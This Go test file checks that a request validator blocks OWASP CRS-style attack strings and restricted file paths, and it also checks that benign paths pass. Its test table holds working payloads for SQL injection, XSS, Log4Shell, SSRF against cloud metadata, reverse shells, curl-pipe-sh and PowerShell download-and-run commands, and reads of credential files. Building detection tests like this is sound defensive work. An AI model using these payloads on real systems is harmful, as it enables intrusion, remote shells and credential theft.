package payload

import (
	"context"
	"net/url"
	"strings"
	"testing"
)

// crsCase is an attack from the families of OWASP CRS paranoia level 1
// that must block on its own, with the LLM off, wherever it arrives.
type crsCase struct {
	in string
	// reasons: the acceptable Result.Reason values, '|'-separated.
	reasons string
	// key: the attack lives in a parameter name (NoSQL operators).
	key bool
}

var crsAttacks = map[string]crsCase{
	// SQL injection beyond libinjection.
	"sqli comment dash space":   {in: "admin'-- -", reasons: ReasonSQLi},
	"sqli hash comment":         {in: "admin' #", reasons: ReasonSQLi},
	"sqli or exists":            {in: "' or (EXISTS)", reasons: ReasonSQLi},
	"sqli xp_cmdshell":          {in: "'; exec master..xp_cmdshell", reasons: ReasonSQLi},
	"sqli union all nulls":      {in: ") UNION ALL SELECT NULL,NULL--", reasons: ReasonSQLi},
	"sqli mssql declare":        {in: "1;DECLARE/**/@x/**/NVARCHAR(4000);SET/**/@x=(SELECT 1);EXEC/**/@x--", reasons: ReasonSQLi},
	"sqli waitfor delay":        {in: "1/**/WAITFOR/**/DELAY/**/'0:0:5'", reasons: ReasonSQLi},
	"sqli pg_sleep":             {in: "1;SELECT pg_sleep(5)--", reasons: ReasonSQLi},
	"sqli benchmark":            {in: "1 AND BENCHMARK(5000000,MD5(1))", reasons: ReasonSQLi},
	"sqli sleep in and":         {in: "1' AND SLEEP(5) AND 'a'='a", reasons: ReasonSQLi},
	"sqli json operator":        {in: `1 AND data->>'$.role' = 'admin' OR 1=1`, reasons: ReasonSQLi},
	"sqli jsonb contained":      {in: `OR '{"b":2}'::jsonb <@ '{"a":1, "b":2}'::jsonb`, reasons: ReasonSQLi},
	"sqli json arrow":           {in: `OR '{"a":2,"c":[4,5,{"f":7}]}' -> '$.c[2].f' = 7`, reasons: ReasonSQLi},
	"sqli jsonb all keys":       {in: `OR '{"name":"asd"}' ?& array['a','name']`, reasons: ReasonSQLi},
	"sqli json path text":       {in: `'{"a": {"b": ["foo","bar"]}}'::json #>> '{a,b,1}'`, reasons: ReasonSQLi},
	"sqli information_schema":   {in: "1 union select table_name from information_schema.tables", reasons: ReasonSQLi},
	"sqli oracle dbms":          {in: "' || dbms_pipe.receive_message(('a'),10) || '", reasons: ReasonSQLi},
	"sqli into outfile":         {in: "1 INTO OUTFILE '/var/www/x.php'", reasons: ReasonSQLi},
	"sqli quote stacked select": {in: "';SELECT P", reasons: ReasonSQLi},
	"sqli exec master":          {in: "exec master.", reasons: ReasonSQLi},
	"sqli waitfor quote":        {in: "\" WAITFOR DELAY '", reasons: ReasonSQLi},
	"sqli alter charset":        {in: "ALTER TABLE `t` ADD `video` TEXT CHARACTER SET latin1", reasons: ReasonSQLi},
	"sqli pg cast":              {in: "starts_with(password,'a')::int", reasons: ReasonSQLi},
	"sqli pg div":               {in: "div(23,-2)", reasons: ReasonSQLi},
	"sqli declare var":          {in: "DECLARE/**/@x", reasons: ReasonSQLi},
	"sqli executable comment":   {in: "9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}", reasons: ReasonSQLi},
	"sqli alias from":           {in: "` AS `edit_user_id` from", reasons: ReasonSQLi},
	"sqli email quote":          {in: "admin@juice-sh.op';", reasons: ReasonSQLi},
	"sqli jsonb lt":             {in: `'{"b":2}'::jsonb < '{"a":1, "b":2}'::jsonb`, reasons: ReasonSQLi},
	"sqli create function":      {in: "CREATE FUNCTION hello (s CHAR(20)) RETURNS CHAR(50) DETERMINISTIC RETURN CONCAT('Hello, ',s,'!');", reasons: ReasonSQLi},
	"sqli integer overflow":     {in: "4294967296", reasons: ReasonSQLi},

	// XSS.
	"xss onmouseover no close": {in: `<IMG SRC= onmouseover="alert('xxs')">`, reasons: ReasonXSS},
	"xss javascript mixed":     {in: "JavaSCript:alert(123)", reasons: ReasonXSS},
	"xss full width":           {in: "＜script＞alert(1)＜/script＞", reasons: ReasonXSS},
	"xss svg onload":           {in: "<svg/onload=alert(1)>", reasons: ReasonXSS},
	"xss open tag handler":     {in: `<body onload=alert(1)`, reasons: ReasonXSS},
	"xss data uri":             {in: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", reasons: ReasonXSS},
	"xss vbscript":             {in: "vbscript:msgbox(1)", reasons: ReasonXSS},
	"xss js escapes":           {in: `\u{3c}script\u{3e}alert(1)\u{3c}/script\u{3e}`, reasons: ReasonXSS},
	"xss template literal":     {in: "<script>alert`1`</script>", reasons: ReasonXSS},
	"xss iframe srcdoc":        {in: `<iframe srcdoc="<script>alert(1)</script>">`, reasons: ReasonXSS + "|" + ReasonSQLi},
	"xss math href":            {in: `<math><a xlink:href="javascript:alert(1)">x</a></math>`, reasons: ReasonXSS},
	"xss css escape":           {in: `<div style="background:url(\6a avascript:alert(1))">`, reasons: ReasonXSS},
	"xss spaced tag":           {in: "bar<f o r m", reasons: ReasonXSS},
	"xss namespaced tag":       {in: "< x: script", reasons: ReasonXSS},
	"xss vmlframe":             {in: `<v:vmlframe src="foo.com/sup.fml"/>`, reasons: ReasonXSS},
	"xss entity tab uri":       {in: "ja&tab;vascript: ", reasons: ReasonXSS},
	"xss xinclude":             {in: `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/foo"/></x>`, reasons: ReasonXSS},
	"xss template call":        {in: "[].sort.call`${alert}1337`", reasons: ReasonXSS},
	"xss new function":         {in: "new Function()", reasons: ReasonXSS},
	"xss lone call":            {in: "setInterval(code, 1)", reasons: ReasonXSS},
	"xss utf7":                 {in: "+ADw-script+AD4-", reasons: ReasonXSS},
	"xss ssi":                  {in: `<!--#set var="a" value="b"-->`, reasons: ReasonXSS},

	// Command injection.
	"cmdi dollar paren":       {in: "$(id)", reasons: ReasonShellInjection},
	"cmdi backticks":          {in: "`id`", reasons: ReasonShellInjection},
	"cmdi find exec":          {in: ";find /etc -name passwd -exec cat {} +", reasons: ReasonShellInjection},
	"cmdi dev tcp":            {in: "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", reasons: ReasonShellInjection},
	"cmdi glob brackets":      {in: "cat /etc/pa[s]swd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
	"cmdi admin tool":         {in: "ansible-vault decrypt secret", reasons: ReasonShellInjection},
	"cmdi admin after sep":    {in: "time; ansible all -m ping", reasons: ReasonShellInjection},
	"cmdi wrapper":            {in: "strace ifconfig", reasons: ReasonShellInjection},
	"cmdi bin path args":      {in: "/usr/bin/perl -e 'print readline'", reasons: ReasonShellInjection},
	"cmdi passwd arg":         {in: "cd /;cd etc;fold passwd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
	"cmdi lone chained prose": {in: ";env", reasons: ReasonShellInjection},
	"cmdi history recall":     {in: "!-1!-2", reasons: ReasonShellInjection},
	"cmdi tilde stack":        {in: "~-1", reasons: ReasonShellInjection},
	"cmdi brace expansion":    {in: "{,ifconfig,eth0}", reasons: ReasonShellInjection},
	"cmdi glob question":      {in: "/e?c/pa*wd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
	"cmdi powershell iex":     {in: ";iex (iwr http://x/a.ps1)", reasons: ReasonShellInjection},
	"cmdi semicolon id":       {in: ";id", reasons: ReasonShellInjection},
	"cmdi pipe whoami":        {in: "| whoami", reasons: ReasonShellInjection},
	"cmdi and uname":          {in: "&& uname -a", reasons: ReasonShellInjection},
	"cmdi curl pipe sh":       {in: ";curl http://x|sh", reasons: ReasonShellInjection},
	"cmdi ifs":                {in: ";cat${IFS}/etc/passwd", reasons: ReasonShellInjection + "|" + ReasonPathTraversal},
	"cmdi invoke-expression":  {in: "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')", reasons: ReasonShellInjection},
	"cmdi windows cmd":        {in: "& cmd.exe /c whoami", reasons: ReasonShellInjection},
	"cmdi nc reverse":         {in: "; nc -e /bin/sh 10.0.0.1 4444", reasons: ReasonShellInjection},
	"cmdi amp ping":           {in: "& ping -c 10 127.0.0.1 &", reasons: ReasonShellInjection},
	"cmdi php system":         {in: ";system('id')", reasons: ReasonShellInjection},

	// Path traversal and file access.
	"lfi windows backslash": {in: `..\..\windows\win.ini`, reasons: ReasonPathTraversal},
	"lfi tomcat":            {in: "/..;/manager/html", reasons: ReasonPathTraversal},
	"lfi file scheme":       {in: "file:///etc/passwd", reasons: ReasonPathTraversal + "|" + ReasonSSRF},
	"lfi web-inf":           {in: "../WEB-INF/web.xml", reasons: ReasonPathTraversal},
	"lfi git head":          {in: ".git/HEAD", reasons: ReasonPathTraversal},
	"lfi ssh key token":     {in: ".ssh/id_rsa", reasons: ReasonPathTraversal},
	"lfi sys class":         {in: "/sys/class", reasons: ReasonPathTraversal},
	"lfi cat subuid":        {in: "cat /etc/subuid", reasons: ReasonPathTraversal + "|" + ReasonShellInjection},
	"lfi tmp write":         {in: ">/tmp/curl", reasons: ReasonPathTraversal + "|" + ReasonShellInjection},
	"lfi docker secrets":    {in: "/path/to/.docker/secrets", reasons: ReasonPathTraversal},
	"lfi sql dump":          {in: "backup.sql.zip", reasons: ReasonPathTraversal},

	// New families.
	"jndi ldap":                  {in: "${jndi:ldap://x/a}", reasons: ReasonJNDI},
	"jndi nested":                {in: "${${lower:j}ndi:${lower:l}dap://x/a}", reasons: ReasonJNDI},
	"jndi env":                   {in: "${${env:BARFOO:-j}ndi${env:BARFOO:-:}rmi://x/a}", reasons: ReasonJNDI},
	"ssti arithmetic":            {in: "{{7*7}}", reasons: ReasonSSTI},
	"node nd_func":               {in: "_$$ND_FUNC$$_function(){}", reasons: ReasonSSTI},
	"node proto key":             {in: "__proto__[test]", reasons: ReasonSSTI},
	"node constructor prototype": {in: "constructor.prototype.test", reasons: ReasonSSTI},
	"node process env":           {in: "process.env", reasons: ReasonSSTI},
	"node console call":          {in: "console.info(1)", reasons: ReasonSSTI},
	"node flight ref":            {in: `{"get":"$3:constructor:constructor"}`, reasons: ReasonSSTI},
	"node while true":            {in: "while(true);", reasons: ReasonSSTI},
	"node while not zero":        {in: "while(!0);", reasons: ReasonSSTI},
	"ssrf bare docker host":      {in: "host.docker.internal/", reasons: ReasonSSRF},
	"ssrf bare localhost":        {in: "localhost/", reasons: ReasonSSRF},
	"ssrf rfi query tail":        {in: "https://foo.bar?", reasons: ReasonSSRF},
	"ssrf rfi scheme probe":      {in: "ftp?", reasons: ReasonSSRF},
	"ssrf ftp bare ip":           {in: "ftp://1.1.1.1", reasons: ReasonSSRF},
	"crlf proxy unix socket":     {in: "unix:AAAAAAAAA|http://example.org/", reasons: ReasonCRLF},
	"crlf bare cr header":        {in: "Headerdata\rInjectedHeader: response_splitting_code", reasons: ReasonCRLF},
	"ssrf data text":             {in: "data:text/plain;base64,SSBsb3ZlIFBIUAo=", reasons: ReasonSSRF},
	"ssrf oracle metadata":       {in: "http://192.0.0.192/latest/user-data/", reasons: ReasonSSRF},
	"ssrf slashless loopback":    {in: "http:127.0.0.1", reasons: ReasonSSRF},
	"ssti jinja class":           {in: "{{''.__class__.__mro__[1].__subclasses__()}}", reasons: ReasonSSTI},
	"ssti erb":                   {in: "<%= 7*7 %>", reasons: ReasonSSTI},
	"ssti spring":                {in: "${T(java.lang.Runtime).getRuntime().exec('id')}", reasons: ReasonSSTI + "|" + ReasonDeserialization + "|" + ReasonShellInjection},
	"ssti ruby":                  {in: "#{7*7}", reasons: ReasonSSTI},
	"nosqli key ne":              {in: "u_id[$ne]", key: true, reasons: ReasonNoSQLi},
	"nosqli key gt":              {in: "password[$gt]", key: true, reasons: ReasonNoSQLi},
	"nosqli where":               {in: `{"$where": "sleep(100)"}`, reasons: ReasonNoSQLi + "|" + ReasonSQLi},
	"ldapi filter":               {in: "*(|(mail=*))", reasons: ReasonLDAPi},
	"ldapi objectclass":          {in: "*)(objectClass=*", reasons: ReasonLDAPi},
	"ssrf metadata":              {in: "http://169.254.169.254/latest/meta-data/", reasons: ReasonSSRF},
	"ssrf gcp":                   {in: "http://metadata.google.internal/computeMetadata/v1/", reasons: ReasonSSRF},
	"ssrf gopher":                {in: "gopher://127.0.0.1:6379/_INFO", reasons: ReasonSSRF},
	"ssrf dict":                  {in: "dict://localhost:11211/stat", reasons: ReasonSSRF},
	"ssrf decimal ip":            {in: "http://2852039166/latest/meta-data/", reasons: ReasonSSRF},
	"ssrf hex ip":                {in: "http://0x7f000001/admin", reasons: ReasonSSRF},
	"ssrf ipv6 aws":              {in: "http://[fd00:ec2::254]/latest/", reasons: ReasonSSRF},
	"ssrf redis":                 {in: "http://127.0.0.1:6379/", reasons: ReasonSSRF},
	"crlf set-cookie":            {in: "%0d%0aSet-Cookie:%20a=b", reasons: ReasonCRLF},
	"crlf location":              {in: "x\r\nLocation: http://evil/", reasons: ReasonCRLF},
	"crlf request line":          {in: "aaa\nGET / HTTP/1.1", reasons: ReasonCRLF},
	"crlf smuggled line":         {in: "GET http://www.foo.bar HTTP/1.2", reasons: ReasonCRLF},
	"crlf lead header":           {in: "\r\nRemote-addr: foo.bar.com", reasons: ReasonCRLF},
	"crlf lead refresh":          {in: "\r\nrefresh: www.bar.com", reasons: ReasonCRLF},
	"ldap not clause":            {in: "*)!(sn=*", reasons: ReasonLDAPi},
	"ldap and clause":            {in: "val)&(cn=admin", reasons: ReasonLDAPi},
	"ldap open or":               {in: "admin)(|", reasons: ReasonLDAPi},
	"ldap tab or":                {in: "test)\t(\t|", reasons: ReasonLDAPi},
	"rfi ip script":              {in: "http://66.240.183.75/crash.php", reasons: ReasonSSRF},
	"rfi ipv6 script":            {in: "https://[2001:41d0:701:1100::29c8]/gecko.php", reasons: ReasonSSRF},
	"rfi ipv6 bare":              {in: "https://2001:41d0:701:1100::29c8/gecko.php", reasons: ReasonSSRF},
	"php filter":                 {in: "php://filter/convert.base64-encode/resource=index.php", reasons: ReasonPHPWrapper},
	"php phar":                   {in: "phar://uploads/a.jpg/x", reasons: ReasonPHPWrapper},
	"php expect":                 {in: "expect://id", reasons: ReasonPHPWrapper},
	"php data":                   {in: "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==", reasons: ReasonPHPWrapper},
	"java serialized":            {in: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", reasons: ReasonDeserialization},
	"java hex":                   {in: "aced0005737200116a6176612e7574696c2e486173684d6170", reasons: ReasonDeserialization},
	"java runtime":               {in: "java.lang.Runtime.getRuntime().exec(\"id\")", reasons: ReasonDeserialization + "|" + ReasonShellInjection},

	// Java class references (944).
	"java io class":             {in: "java.io.File", reasons: ReasonDeserialization},
	"java runtime short":        {in: "java.Runtime", reasons: ReasonDeserialization},
	"java processbuilder":       {in: "ProcessBuilder.evil.forclosure", reasons: ReasonDeserialization},
	"java corba":                {in: "org.omg.CORBA", reasons: ReasonDeserialization},
	"java xmldecoder class":     {in: `<object class="java.lang.Runtime" method="getRuntime">`, reasons: ReasonDeserialization + "|" + ReasonXSS},
	"xss meta charset alone":    {in: `<meta charset="UTF-8">`, reasons: ReasonXSS},
	"sqli statement obfuscated": {in: "SELECT id FROM users WHERE id=JsoN_EXTraCT/**/(/**/' {\"a\":1} '/**/,/**/' $.a '/**/);", reasons: ReasonSQLi},
	"sqli hash no text":         {in: "admin'#", reasons: ReasonSQLi},
	"cmdi process subst":        {in: "<(cat file)", reasons: ReasonShellInjection},
	"cmdi process subst out":    {in: ">(tee log)", reasons: ReasonShellInjection},
	"cmdi dollar bracket":       {in: "$[2+2]", reasons: ReasonShellInjection},
	"cmdi dollar bracket nil":   {in: "$[]", reasons: ReasonShellInjection},
	"cmdi arith subst":          {in: "$(($() 42))", reasons: ReasonShellInjection},
	"cmdi param expansion":      {in: "${PATH#{}/}", reasons: ReasonShellInjection},
	"cmdi shellshock":           {in: "() {", reasons: ReasonShellInjection},
	"cmdi here string":          {in: ";irb<<<1+2", reasons: ReasonShellInjection},
	"cmdi time sh -c":           {in: "time sh -c whoami", reasons: ReasonShellInjection},
	"cmdi sh tab -c":            {in: "time sh\t-c whoami", reasons: ReasonShellInjection},
	"cmdi shell var -c":         {in: `${SHELL} -c "echo hi"`, reasons: ReasonShellInjection},
	"cmdi alias":                {in: "alias eennvv=env&eennvv whoami", reasons: ReasonShellInjection},
	"cmdi alias flags":          {in: "alias +g+ a=b", reasons: ReasonShellInjection},
	"cmdi here string subst":    {in: ";`cat<<<$(sh -c whoami)`", reasons: ReasonShellInjection},
	"sqli db name alone":        {in: "information_schema", reasons: ReasonSQLi},
	"sqli tempdb":               {in: "tempdb", reasons: ReasonSQLi},
	"sqli group_concat call":    {in: ", GROUP_CONCAT(password)", reasons: ReasonSQLi},
	"sqli lone concat probe":    {in: "concat (", reasons: ReasonSQLi},
	"sqli sleep of a function":  {in: "SeleCT sLeEp (mOD(10,5))", reasons: ReasonSQLi},
	"cmdi batch for":            {in: `FOR /F "tokens=1-3" %A IN ("a b") DO @echo pwnd`, reasons: ReasonShellInjection},
	"cmdi batch if exist":       {in: "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)", reasons: ReasonShellInjection},
	"cmdi batch if compare":     {in: `if %n1% gtr %n2% echo %n1%`, reasons: ReasonShellInjection},
	"xss document cookie":       {in: "document /*foo*/ .     cookie", reasons: ReasonXSS},
	"xss window bracket":        {in: `window["alert"](window["document"]["cookie"])`, reasons: ReasonXSS},
	"xss jsfuck":                {in: "(![]+[])[+!+[]]", reasons: ReasonXSS},
}

// crsShapes places an attack in a query value, a JSON body field and a
// header; a key attack in a query key, a form key and a JSON key.
func crsShapes(tc crsCase) map[string]*Input {
	if tc.key {
		return map[string]*Input{
			"query-key": {Path: "/login", RawQuery: url.QueryEscape(tc.in) + "=2"},
			"form-key":  {Path: "/login", Body: []byte(url.QueryEscape(tc.in) + "=2"), ContentType: "application/x-www-form-urlencoded"},
			"json-key":  {Path: "/login", Body: []byte(`{"user":{` + jsonQuote(tc.in) + `:2}}`), ContentType: "application/json"},
		}
	}
	hv := tc.in
	if strings.ContainsAny(hv, "\r\n") {
		hv = url.QueryEscape(hv) // a header cannot carry a raw CR or LF
	}
	return map[string]*Input{
		"query":  inQuery(tc.in),
		"json":   inJSON(tc.in),
		"header": {Path: "/", Headers: map[string]string{"x-data": hv}},
	}
}

// crsPaths are request paths that name restricted files (CRS 930130,
// 930140): they block as the path, not only as a parameter.
var crsPaths = []string{
	"/get/sys/class", "/get/proc/interrupts", "/get/backup.sql.zip", "/@fs/etc/passwd", "/@fs/.env",
	"/@id/__x00__", "/wp-content/debug.log", "/.aiignore", "/.claude/settings.json", "/app/.cursor/mcp.json",
	"/.git/config", "/static/.htpasswd",
}

// benignPaths must not block.
var benignPaths = []string{
	"/.well-known/acme-challenge/x1", "/api/v1/users/42", "/docs/system/class-reference", "/blog/2024/proc-macros-in-rust",
	"/assets/app.3f9a.js", "/search/.net-core", "/static/fonts/roboto.woff2",
}

func TestCRSPaths(t *testing.T) {
	cfg := DefaultConfig()
	cfg.LLM.Mode = LLMOff
	v := newTestValidator(t, cfg)
	for _, p := range crsPaths {
		if res := v.Inspect(context.Background(), &Input{Path: p}); res.Action != Block || !strings.HasPrefix(res.Rule, "payload.") {
			t.Errorf("path %q not blocked (score %d, findings %+v)", p, res.Score, res.Findings)
		}
	}
	for _, p := range benignPaths {
		if res := v.Inspect(context.Background(), &Input{Path: p}); res.Action == Block {
			t.Errorf("benign path %q blocked: %s (findings %+v)", p, res.Rule, res.Findings)
		}
	}
}

func TestCRSAttacksBlock(t *testing.T) {
	cfg := DefaultConfig()
	cfg.LLM.Mode = LLMOff
	v := newTestValidator(t, cfg)
	for name, tc := range crsAttacks {
		t.Run(name, func(t *testing.T) {
			for shape, in := range crsShapes(tc) {
				res := v.Inspect(context.Background(), in)
				if res.Action != Block {
					t.Errorf("%s: %q not blocked (score %d, findings %+v)", shape, tc.in, res.Score, res.Findings)
					continue
				}
				ok := false
				for _, r := range strings.Split(tc.reasons, "|") {
					ok = ok || r == res.Reason
				}
				if !ok {
					t.Errorf("%s: %q: reason %s, want %s (findings %+v)", shape, tc.in, res.Reason, tc.reasons, res.Findings)
				}
				if res.Rule == "" || !strings.HasPrefix(res.Rule, "payload.") {
					t.Errorf("%s: %q: rule %q, want a payload.* rule name", shape, tc.in, res.Rule)
				}
				for _, f := range res.Findings {
					if f.Rule == "" {
						t.Errorf("%s: %q: finding without a rule: %+v", shape, tc.in, f)
					}
				}
			}
		})
	}
}
